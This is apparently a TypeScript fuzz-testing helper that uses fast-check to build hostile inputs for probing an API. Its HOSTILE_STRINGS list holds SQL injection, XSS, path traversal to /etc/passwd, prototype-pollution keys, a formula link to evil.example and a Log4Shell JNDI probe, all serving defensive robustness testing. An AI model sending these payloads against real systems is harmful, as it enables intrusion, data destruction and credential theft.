import fc from 'fast-check';

/** Strings that have broken other systems: injections, traversal, prototype keys, odd encodings. */
export const HOSTILE_STRINGS = [
  "'; drop table users; --",
  "' or '1'='1",
  '1; select pg_sleep(10)',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '__proto__',
  'constructor',
  'prototype',
  '=HYPERLINK("http://evil.example")',
  '%00',
  '\u0000',
  '\ud800',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell probe, meant literally
  '${jndi:ldap://x}',
  '{{7*7}}',
  '9'.repeat(400),
  '-1',
  '1e309',
  'NaN',
  'null',
  '[]',
  '{}',
  ' ',
  '🍸'.repeat(50),
];

/** A JSON value of any shape, including hostile keys and strings. */
export const jsonValue: fc.Arbitrary<unknown> = fc.letrec((tie) => ({
  value: fc.oneof(
    { depthSize: 'small' },
    fc.constantFrom(...HOSTILE_STRINGS),
    fc.string(),
    fc.integer(),
    fc.double(),
    fc.boolean(),
    fc.constant(null),
    fc.array(tie('value'), { maxLength: 4 }),
    fc.dictionary(
      fc.oneof(fc.constantFrom('__proto__', 'constructor', 'email', 'role', 'id'), fc.string()),
      tie('value'),
      {
        maxKeys: 5,
      },
    ),
  ),
})).value;

/** A query-string value: hostile, random, boundary dates and numbers. */
export const queryValue = fc.oneof(
  fc.constantFrom(...HOSTILE_STRINGS),
  fc.string({ maxLength: 40 }),
  fc.constantFrom(
    '2026-02-29',
    '2024-02-29',
    '0000-01-01',
    '9999-12-31',
    '2026-13-01',
    '-1',
    '0',
    '10001',
    'csv',
    'json',
  ),
  fc.integer().map(String),
);

/** A body: valid JSON of any shape, or raw text that is not JSON at all. */
export const rawBody = fc.oneof(
  jsonValue.map((v) => ({ payload: JSON.stringify(v) ?? 'null', contentType: 'application/json' })),
  fc.string({ maxLength: 200 }).map((s) => ({ payload: s, contentType: 'application/json' })),
  fc.string({ maxLength: 200 }).map((s) => ({ payload: s, contentType: 'text/plain' })),
  fc.constant({ payload: '{"a":'.repeat(2000), contentType: 'application/json' }),
);
